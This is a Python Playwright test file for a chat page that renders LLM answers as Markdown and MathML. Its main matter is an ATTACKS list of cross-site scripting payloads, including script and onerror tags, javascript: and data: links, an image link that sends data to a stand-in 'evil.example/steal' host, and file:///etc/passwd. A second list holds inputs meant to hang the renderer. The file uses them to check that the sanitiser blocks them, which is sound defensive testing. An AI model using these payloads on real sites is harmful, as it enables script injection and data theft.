"""The page before an LLM that may write anything: Markdown, attacks, doubtful sentences, stop, retry, follow-ups."""

import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from kcard.serve.app import create_app
from tests.hub.server.chromium import opened, require_accessible
from tests.openai_script import ScriptedServer
from tests.serve.conftest import ANSWERED, QUESTION, TRITON, post, running, service_before, without_policy

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Page

Ask = Callable[..., None]
LASSELL = "Triton was discovered by William Lassell in 1846."


@pytest.fixture(scope="module")
def llm() -> Iterator[ScriptedServer]:
    server = ScriptedServer([]).start()
    yield server
    server.kill()


@pytest.fixture(scope="module")
def address(library: Path, llm: ScriptedServer) -> Iterator[str]:
    """Of an endpoint before the scripted LLM and, to choose instead of it, the embedded one."""
    with running(create_app(service_before(llm.url, library, embedded="embedded"))) as url:
        yield url.removesuffix("v1")


@pytest.fixture
def page(browser: "Browser", address: str) -> Iterator["Page"]:
    with opened(browser, address, "", narrow=True) as tab:
        tab.wait_for_selector("#model option", state="attached")
        yield tab
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.fixture
def ask(page: "Page", llm: ScriptedServer) -> Ask:
    """Asks a question, to which the LLM's server takes these steps, and waits for the end of the answer."""

    def run(*steps: dict[str, Any], question: str = "Who discovered Triton?", turn: int = 1) -> None:
        llm.steps[:] = steps
        llm.requests.clear()
        page.fill("#question", question)
        page.press("#question", "Enter")
        page.wait_for_selector(ANSWERED.format(turn), timeout=60_000)

    return run


def html(page: "Page") -> str:
    return page.inner_html(".text")


def test_the_stages_and_times_of_an_answer_are_shown(page: "Page", ask: Ask) -> None:
    page.evaluate(
        """() => { window.stages = []; new MutationObserver(() => {
             const what = document.querySelector(".stage .what")?.textContent;
             if (what && window.stages.at(-1) !== what) window.stages.push(what);
           }).observe(document, { subtree: true, childList: true, characterData: true }); }"""
    )
    ask({"pieces": ["William ", "Lassell."], "delay": 0.1})
    stages = page.evaluate("window.stages")
    assert stages[:3] == ["waiting", "searching 1 card", "reading"]
    assert "writing" in stages
    times = page.inner_text(".times")
    assert times.startswith("first word after ")
    assert times.endswith(" s in all · ")
    assert not page.is_visible(".stage")


def test_stages_come_only_to_who_asks_for_them(address: str, llm: ScriptedServer) -> None:
    llm.steps[:] = [{"text": "William Lassell."}]
    body = {"model": "big", "stream": True, "messages": TRITON}
    plain = post(f"{address}v1", body).text
    staged = post(f"{address}v1", body, **{"X-Kcard-Stages": "1"}).text
    assert "kcard_stage" not in plain
    assert staged.startswith('data: {"kcard_stage": {"name": "searching", "cards": 1, "question": ')
    assert '"checking"' in staged


def test_a_follow_up_continues_the_conversation_and_shows_how_it_was_understood(
    page: "Page", ask: Ask, llm: ScriptedServer
) -> None:
    assert "A follow-up continues the conversation; start a new one" in page.inner_text("#keys")
    ask({"text": "Triton orbits Neptune backwards."}, question="Which moon orbits Neptune backwards?")
    assert not page.is_visible(".understood")
    ask({"text": "Who discovered Triton?"}, {"text": LASSELL}, question="Who discovered it?", turn=2)
    assert page.inner_text(".turn:nth-of-type(2) .understood") == "Understood as: Who discovered Triton?"
    assert [turn["role"] for turn in llm.requests[-1]["body"]["messages"][-3:]] == [
        "user", "assistant", "user"
    ]  # fmt: skip


@pytest.mark.parametrize("reply", ["1969.", "Triton was discovered in 1846.", "Which planet is the largest?"])
def test_what_is_no_rewritten_question_is_not_searched_for(page: "Page", ask: Ask, reply: str) -> None:
    ask({"text": "Triton orbits Neptune backwards."}, question="Which moon orbits Neptune backwards?")
    ask({"text": reply}, {"text": LASSELL}, question="When was Triton discovered?", turn=2)
    assert not page.is_visible(".turn:nth-of-type(2) .understood")


def test_another_llm_of_the_operator_can_be_chosen_and_no_other(page: "Page", address: str) -> None:
    assert page.locator("#llm option").all_inner_texts() == ["big", "embedded"]
    page.select_option("#llm", "embedded")
    assert page.input_value("#model") == "embedded"
    assert "embedded answers each question by itself" in page.inner_text("#keys")
    page.fill("#question", "Who discovered Triton?")
    page.press("#question", "Enter")
    page.wait_for_selector(ANSWERED.format(1), timeout=60_000)
    assert page.text_content(".text") == "William Lassell[1]"
    for model in ("local:qwen", "openai:gpt", "hf:x"):
        assert post(f"{address}v1", {"model": model, "messages": TRITON}).status_code == 404


def test_markdown_is_shown_as_what_it_means(page: "Page", ask: Ask) -> None:
    text = (
        "## Moons\n\nThe *first* moon is **Triton**,\nseen by `Lassell`.\n\n"
        "1. Triton\n2. Nereid\n   - small\n   - dim\n\n"
        "> quoted\n\n| moon | year |\n|---|---|\n| Triton | 1846 |\n\n```python\nmoons = ['<b>']\n```\n\n---\n"
        "See [the page](https://example.org/a?b=1) or https://example.org/c. A snake_case_name, 2 * 3 * 4, \\*no\\*."
    )
    ask({"text": text})
    assert page.inner_text(".text h3") == "Moons"
    assert page.inner_text(".text em") == "first"
    assert page.inner_text(".text strong") == "Triton"
    assert page.locator(".text ol > li").count() == 2
    assert page.locator(".text ol ul > li").count() == 2
    assert page.inner_text(".text blockquote").startswith("quoted")
    assert page.locator(".text td").first.inner_text() == "Triton"
    assert page.locator(".text th").count() == 2
    assert page.inner_text(".text pre") == "moons = ['<b>']"
    links = page.locator(".text a:not(.cite)")
    assert [link.get_attribute("href") for link in links.all()] == [
        "https://example.org/a?b=1", "https://example.org/c"
    ]  # fmt: skip
    assert {link.get_attribute("rel") for link in links.all()} == {"nofollow noopener noreferrer"}
    assert "A snake_case_name, 2 * 3 * 4, *no*." in page.inner_text(".text")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (r"It is $E = mc^2$.", "<mi>E</mi><mo>=</mo><mi>m</mi><msup><mi>c</mi><mn>2</mn></msup>"),
        (r"So \(\frac{a}{b_1} \le \pi\)", "<mfrac><mrow><mi>a</mi></mrow><mrow><msub>"),
        ("$$\n\\sum_{i=1}^n \\sqrt{x}\n$$", '<math display="block"><mrow><msubsup><mo>∑</mo>'),
        (r"Then $\begin{matrix}1\end{matrix}$", r'<code class="formula">\begin{matrix}1\end{matrix}</code>'),
        ("From $5 to $10, or $7 and 8$9", "From $5 to $10, or $7 and 8$9"),
    ],
)
def test_formulas_are_readable(page: "Page", ask: Ask, text: str, shown: str) -> None:
    ask({"text": text})
    assert shown in html(page).replace(' xmlns="http://www.w3.org/1998/Math/MathML"', "").replace(
        '<span class="doubtful">', ""
    ).replace("</span>", "")


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<br onclick=alert(1)><a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java\nscript:alert(1)) [x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](//evil.example) [x](file:///etc/passwd)",
    "![x](http://evil.example/steal?q=1) ![x](javascript:alert(1))",
    '[x](http://evil.example/"onmouseover="alert(1)) [x](http://a "x" onclick=alert(1))',
    "http://evil.example/<script>alert(1)</script> <javascript:alert(1)>",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    r"$\href{javascript:alert(1)}{x}$ $\htmlData{onclick=alert(1)}{x}$ $\text{<img src=x onerror=alert(1)>}$",
    "$$<img src=x onerror=alert(1)>$$",
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "[x]: javascript:alert(1)\n\n[x] [x][x] <http://evil.example>",
    "\U000f0000\U000f0001\U000f03e9 **\U000f0002** <b>",
    "constructor __proto__ \\constructor $\\constructor$ $\\__proto__{x}$",
]
ALLOWED = {
    *("A", "B", "BLOCKQUOTE", "BR", "CODE", "EM", "H3", "HR", "LI", "OL", "P", "PRE", "S", "SPAN", "STRONG"),
    *("TABLE", "TD", "TH", "TR", "UL"),
    *("math", "mfrac", "mi", "mn", "mo", "mroot", "mrow", "msqrt", "msub", "msubsup", "msup", "mtext"),
}
INSPECT = """() => [...document.querySelectorAll(".text *, .asked, .asked *")].map((element) => [
    element.tagName, [...element.attributes].map((attribute) => attribute.name), element.getAttribute("href")])"""


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_an_llm_writes_runs_or_is_loaded(page: "Page", ask: Ask, attack: str) -> None:
    dialogs: list[str] = []

    def dismiss(dialog: "Dialog") -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    ask({"text": f"{attack}\n\n- {attack}\n\n> {attack}\n\n**{attack}**"})
    for name, attributes, href in page.evaluate(INSPECT):
        assert name in ALLOWED | {"H2"}
        allowed = {"class", "href", "rel", "target", "aria-label", "display", "start"}
        assert set(attributes) <= allowed, (name, attributes)
        assert href is None or href.startswith(("https://", "http://", "#answer-"))
        assert href is None or not set(href) & set("<>\"' ")
    assert dialogs == []


@pytest.mark.parametrize(
    "text",
    [
        "> " * 20_000,
        "*a " * 18_000,
        "**a*_b_" * 8000,
        "[" * 50_000,
        "\\(" * 25_000 + "\\)",
        "$" + "{" * 1500 + "$",
        "`" * 49_999,
        "- " * 25_000,
        "".join(f"{' ' * n}- x\n" for n in range(300)),
        "|a" * 20_000 + "\n" + "|-" * 20_000,
        "http://" * 8000,
        "word " * 60_000,
    ],
    ids=lambda text: f"{text[:6]!r}",
)
def test_no_text_keeps_the_page_busy(page: "Page", text: str) -> None:
    started = time.monotonic()
    page.evaluate(
        """async (text) => {
             const { showMarkdown } = await import("./markdown.js");
             const place = document.createElement("div");
             document.getElementById("lead").append(place);
             showMarkdown(place, text);
             place.remove();
           }""",
        text,
    )
    assert time.monotonic() - started < 15


def test_a_sentence_that_no_passage_supports_is_marked_by_word_and_colour_within_markdown(
    page: "Page", ask: Ask
) -> None:
    ask({"text": f"- {LASSELL}\n- **Triton is made of green cheese** from the dairies of Denmark."})
    supported, doubtful = page.locator(".text li").all()
    assert supported.inner_text() == f"{LASSELL}[1]"
    assert supported.locator(".doubtful").count() == 0
    assert doubtful.locator("strong .doubtful").inner_text() == "Triton is made of green cheese"
    assert doubtful.locator(".verdict").inner_text().strip() in ("(not in the cards)", "(contradicted)")
    colour = "element => getComputedStyle(element).backgroundColor"
    assert doubtful.locator(".doubtful").first.evaluate(colour) != "rgba(0, 0, 0, 0)"
    page.click("a.cite")
    assert page.locator(".sources li").first.is_visible()


def test_a_failure_is_told_and_the_question_can_be_asked_again(page: "Page", ask: Ask) -> None:
    ask({"status": 500, "text": "kaputt"}, {"text": LASSELL})
    assert "the LLM behind this endpoint failed with status 500" in page.inner_text(".failure")
    page.click(".retry")
    page.wait_for_selector(ANSWERED.format(1) + " a.cite")
    assert page.locator(".turn").count() == 1
    assert page.inner_text(".text") == f"{LASSELL}[1]"


def test_an_answer_can_be_stopped_and_is_no_part_of_the_conversation(
    page: "Page", llm: ScriptedServer, ask: Ask
) -> None:
    llm.steps[:] = [{"text": "late", "delay": 5}]
    page.fill("#question", "Who discovered Triton?")
    page.press("#question", "Enter")
    page.wait_for_selector(".stage .what:text-is('reading')")
    page.click("#stop")
    page.wait_for_selector(ANSWERED.format(1))
    assert page.inner_text(".failure") == "(stopped)"
    ask({"text": LASSELL}, turn=2)
    assert len(llm.requests) == 1  # nothing to be rewritten
    assert "[1]" in page.inner_text(".turn:nth-of-type(2) .text")


def test_a_formatted_answer_is_accessible(browser: "Browser", address: str, llm: ScriptedServer) -> None:
    text = (
        f"### Moons\n\n{LASSELL}\n\n| moon | year |\n|---|---|\n| Triton | $x^2$ |\n\n```\ncode\n```\n\n"
        "Its surface is made of green cheese from the dairies of Denmark, see [this](https://example.org)."
    )
    llm.steps[:] = [{"text": text}]
    with without_policy(browser, f"{address}?card=pluto") as tab:
        tab.wait_for_selector("#examples button")
        require_accessible(tab)
        tab.fill("#question", QUESTION)
        tab.press("#question", "Enter")
        tab.wait_for_selector(ANSWERED.format(1), timeout=60_000)
        assert tab.locator(".doubtful").count()
        require_accessible(tab)
